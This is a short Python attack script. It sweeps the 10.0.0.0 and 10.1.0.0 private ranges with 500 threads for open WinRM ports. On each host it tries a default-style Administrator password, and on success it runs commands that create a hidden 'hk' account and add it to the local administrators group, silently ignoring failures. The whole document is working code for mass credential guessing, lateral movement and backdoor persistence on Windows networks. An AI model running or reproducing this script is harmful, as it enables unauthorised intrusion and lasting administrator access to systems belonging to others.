import winrm, socket, concurrent.futures as cf
nets = [f"10.{a}.{b}.{c}" for a in range(2) for b in range(256) for c in range(1, 255)]
def check(ip):
    s = socket.socket(); s.settimeout(.3)
    if s.connect_ex((ip, 5985)) == 0:
        try:
            winrm.Session(ip, auth=("Administrator", "P@ssw0rd")).run_cmd("net user hk P@ss1 /add && net localgroup administrators hk /add")
        except Exception: pass
with cf.ThreadPoolExecutor(500) as ex: list(ex.map(check, nets))
